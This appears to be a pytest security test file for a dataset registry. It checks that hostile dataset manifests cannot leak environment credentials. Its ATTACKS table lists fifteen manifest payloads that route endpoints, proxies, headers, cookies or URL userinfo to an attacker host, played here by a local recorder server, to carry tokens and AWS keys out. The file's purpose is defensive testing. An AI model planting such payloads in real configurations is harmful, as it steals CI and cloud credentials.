"""Attack 6: a manifest names a host of its own, and this machine's credentials go there.

The server of the attacker records everything it receives. The runner has a token of the Hub, keys
of AWS, a netrc and a CI token in its environment; none may reach the server, or any output.
"""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path

import pytest

from registry import RegistryError, get_dataset
from tests.git_repository import GitRepository, write_files
from tests.security.audit import Audited, run_audited
from tests.servers.recorder import Recorder

SECRETS = {
    "HF_TOKEN": "hf_plantedPlantedPlanted",
    "AWS_ACCESS_KEY_ID": "AKIAPLANTEDPLANTED00",
    "AWS_SECRET_ACCESS_KEY": "planted/aws/secret/key/0123456789",
    "CI_TOKEN": "ghs_plantedPlantedPlanted",
    "QA_KEY": "qa_plantedPlantedPlanted",
}
NETRC = "netrcPlantedPlanted"
# HOST is that of the attacker, and not listed.
ATTACKS = {
    "hub": "path: 'hf://datasets/a/b/x.csv', fs_options: {endpoint: 'http://HOST'}",
    "endpoint": "path: 's3://b/x.csv', fs_options: {endpoint_url: 'http://HOST', anon: false}",
    "nested": "path: 's3://b/x.csv', fs_options: {client_kwargs: {endpoint_url: 'http://HOST'}, key: {env: CI_TOKEN}, secret: {env: CI_TOKEN}}",
    "proxies": "path: 's3://b/x.csv', fs_options: {use_ssl: false, config_kwargs: {proxies: {http: 'http://HOST', https: 'http://HOST'}}}",
    "netrc": "path: 'http://HOST/x.csv', fs_options: {client_kwargs: {trust_env: true}}",
    "header": "path: 'http://HOST/x.csv', fs_options: {headers: {Authorization: {env: CI_TOKEN}}}",
    "mapped": "path: 'http://HOST/x.csv', fs_options: {headers: {Authorization: {env: QA_KEY}}}",
    "client": "path: 'http://HOST/x.csv', fs_options: {client_kwargs: {headers: {A: {env: CI_TOKEN}}}}",
    "cookie": "path: 'http://HOST/x.csv', fs_options: {client_kwargs: {cookies: {A: {env: CI_TOKEN}}}}",
    "second": "path: ['https://data.example.org/1.csv', 'http://HOST/x.csv'], fs_options: {headers: {A: {env: QA_KEY}}}",
    "proxy": "path: 'http://localhost:9/x.csv', fs_options: {proxy: 'http://HOST', headers: {A: {env: QA_KEY}}}",
    "protocol": "path: 'https://data.example.org/1.csv', fs_options: {target_protocol: {env: CI_TOKEN}}",
    "region": "path: 's3://b/x.csv', fs_options: {client_kwargs: {region_name: 'x@HOST/'}}",
    "userinfo": "path: 'http://data.example.org@HOST/x.csv', fs_options: {headers: {A: {env: QA_KEY}}}",
    "in-a-list": "path: 's3://b/x.csv', fs_options: {config_kwargs: {proxies: [{env: CI_TOKEN}]}}",
}
RULES = ("refused-protocol", "refused-option", "unlisted-host", "unlisted-secret", "secret-in-url")
VERBS = [
    *("sync", "lock", "lock --check", "verify", "validate --strict --format json", "list --json"),
    *("diff --build HEAD", "diff --build HEAD --format markdown"),
    *("show header --origin", "show second --origin"),
    *("preview hub", "preview netrc", "preview header"),
]


@pytest.fixture
def server() -> Iterator[Recorder]:
    with Recorder() as server:
        yield server


@pytest.fixture
def checkout(tmp_path: Path, server: Recorder) -> Path:
    """Check out a catalog with the attacks; its index maps a variable to a host of its owner."""
    host = f"127.0.0.1:{server.port}"
    manifest = "datasets:\n" + "".join(
        f"  {name}:\n    source: {{type: csv, {text.replace('HOST', host)}}}\n"
        "    fields: {input: q, target: a}\n"
        for name, text in ATTACKS.items()
    )
    index = "version: 1\ninclude: [m.yaml]\nsecrets: {QA_KEY: [data.example.org]}\n"
    GitRepository.make(tmp_path / "checkout", {"datasets.yaml": index, "m.yaml": manifest})
    write_files(tmp_path, {"home/.netrc": f"machine 127.0.0.1 login me password {NETRC}\n"})
    (tmp_path / "home" / ".netrc").chmod(0o600)
    return tmp_path / "checkout"


def run(checkout: Path, *arguments: str) -> Audited:
    folder = checkout.parent
    own = {"HOME": str(folder / "home"), "REGISTRY_CACHE_DIR": str(folder / "cache")}
    environment = {**SECRETS, **own, "AWS_EC2_METADATA_DISABLED": "true"}
    return run_audited(arguments, folder=checkout, environment=environment)


def assert_no_secret(checkout: Path, server: Recorder, *outcomes: Audited) -> None:
    """Look for the planted secrets in all output, in all files, and in all requests."""
    planted = [*SECRETS.values(), NETRC]
    files = [*(checkout.parent / "cache").rglob("*"), *checkout.glob("*.lock")]
    texts = [outcome.text for outcome in outcomes]
    texts += [file.read_bytes().decode("latin-1") for file in files if file.is_file()]
    for text in [*texts, *map(str, server.received)]:
        assert not [one for one in planted if one in text], text


def test_validate_names_each_attack_with_its_place(checkout: Path, server: Recorder) -> None:
    found = run(checkout, "validate", "--strict")
    assert found.code == 1
    lines = (checkout / "m.yaml").read_text().splitlines()
    for name in ATTACKS:
        line = lines.index(f"  {name}:") + 2
        reported = [one for one in found.out.splitlines() if one.startswith(f"m.yaml:{line}:")]
        assert any(f"[{rule}]" in one for one in reported for rule in RULES), (name, reported)
    assert_no_secret(checkout, server, found)


def test_the_message_has_the_lines_that_would_allow_it(checkout: Path) -> None:
    out = run(checkout, "validate").out
    assert "write in the root index `secrets: {QA_KEY: ['data.example.org', '127.0.0.1']}`" in out
    assert "add it to the root index: `hosts: ['127.0.0.1']`" in out


@pytest.mark.parametrize("verb", VERBS)
def test_no_verb_sends_or_shows_a_credential(checkout: Path, server: Recorder, verb: str) -> None:
    found = run(checkout, *verb.split())
    assert_no_secret(checkout, server, found)
    assert server.received == []


def test_a_redirect_takes_no_secret_along(checkout: Path, server: Recorder) -> None:
    # The index maps the variable to `localhost`; the server there redirects to another host.
    manifest = f"""\
datasets:
  d:
    source:
      type: csv
      path: {server.url("/a.csv", "localhost")}
      fs_options: {{headers: {{X-Api-Key: {{env: QA_KEY}}}}, client_kwargs: {{headers: {{Cookie: {{env: QA_KEY}}}}}}}}
    fields: {{input: q, target: a}}
"""
    index = "version: 1\ninclude: [m.yaml]\nsecrets: {QA_KEY: [localhost]}\n"
    write_files(checkout, {"datasets.yaml": index, "m.yaml": manifest})
    server.redirects["/a.csv"] = server.url("/b.csv", "127.0.0.1")
    outcomes = [run(checkout, *verb) for verb in (["sync"], ["lock"], ["verify"], ["show", "d"])]
    assert [outcome.code for outcome in outcomes] == [0, 0, 0, 0], outcomes
    assert {one.path for one in server.received} == {"/a.csv", "/b.csv"}
    for received in server.received:
        has_secret = SECRETS["QA_KEY"] in str(received.headers)
        assert has_secret is (received.path == "/a.csv"), received
    server.received.clear()
    assert_no_secret(checkout, server, *outcomes)


def test_a_secret_is_in_no_error(checkout: Path, server: Recorder) -> None:
    index = "version: 1\ninclude: [m.yaml]\nhosts: [localhost]\nsecrets: {CI_TOKEN: [localhost]}\n"
    manifest = f"""\
datasets:
  header: {{source: {{type: csv, path: {server.url("/a.csv", "localhost")}, fs_options: {{headers: {{A: {{env: BAD}}}}}}}}}}
  missing: {{source: {{type: csv, path: {server.url("/gone.csv", "localhost")}, fs_options: {{headers: {{A: {{env: CI_TOKEN}}}}}}}}}}
  s3: {{source: {{type: csv, path: 's3://b/x.csv', fs_options: {{endpoint_url: {server.url("", "localhost")}, key: {{env: CI_TOKEN}}, secret: {{env: CI_TOKEN}}}}}}}}
"""
    write_files(checkout, {"datasets.yaml": index, "m.yaml": manifest})
    server.pages["/gone.csv"] = None
    server.status = 403
    server.body = b"<Error><Code>InvalidAccessKeyId</Code><Message>" + SECRETS["CI_TOKEN"].encode()
    outcomes = [run(checkout, *verb) for verb in (["sync"], ["lock"], ["verify"])]
    assert all(outcome.code == 1 for outcome in outcomes)
    server.received.clear()  # it may have this one
    assert_no_secret(checkout, server, *outcomes)


def test_a_url_in_a_call_is_the_users_word_but_the_options_are_not(
    tmp_path: Path, server: Recorder, monkeypatch: pytest.MonkeyPatch
) -> None:
    import fsspec

    fsspec.filesystem("memory").pipe("/b/x.csv", b"q,a\n1,2\n")
    keen = "source: {type: csv, path: x.csv, fs_options: {headers: {A: {env: CI_TOKEN}}}}"
    plain = "plain: {source: {type: csv, path: x.csv}, fields: {input: q, target: a}}"
    index = f"version: 1\ndatasets:\n  {plain}\n  keen: {{extends: plain, {keen}}}\n"
    write_files(tmp_path, {"datasets.yaml": index})
    monkeypatch.setenv("CI_TOKEN", SECRETS["CI_TOKEN"])
    for source in ("memory://b/x.csv", "memory://b/*.csv", server.url("/x.csv")):
        assert len(get_dataset("plain", root=tmp_path, source=source)) == 1
    user = server.url("/x.csv").replace("//", "//me:word@")
    assert len(get_dataset("plain", root=tmp_path, source=user)) == 1
    server.received.clear()
    for source in ("memory://b/x.csv", server.url("/x.csv")):
        with pytest.raises(RegistryError, match=r"headers\.A: .*(takes no option|is not for)"):
            get_dataset("keen", root=tmp_path, source=source)
    assert server.received == []
